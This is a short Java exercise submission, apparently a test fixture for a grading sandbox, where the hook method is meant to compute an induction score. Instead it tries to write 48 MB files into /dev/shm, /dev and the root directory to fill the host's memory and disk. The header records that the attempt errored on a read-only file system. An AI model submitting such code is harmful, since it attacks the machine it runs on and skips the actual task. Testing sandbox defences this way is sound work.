// wants: the host's memory, as files beside the temporary folder
// verdict: ERRORED
// says: Read-only file system
package student;

import ai.djl.ndarray.NDArray;
import hookworks.exercises.Hooks;
import hookworks.lens.hooks.HookPoint;

public class MyHooks implements Hooks {
    @Override
    public NDArray inductionScoreHook(NDArray pattern, HookPoint hook, NDArray store) {
        try {
            for (String folder : new String[] {"/dev/shm/", "/dev/", "/"}) {
                for (int i = 0; i < 2; i++) {
                    java.nio.file.Files.write(java.nio.file.Path.of(folder + i), new byte[48 << 20]);
                }
            }
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return store;
    }
}
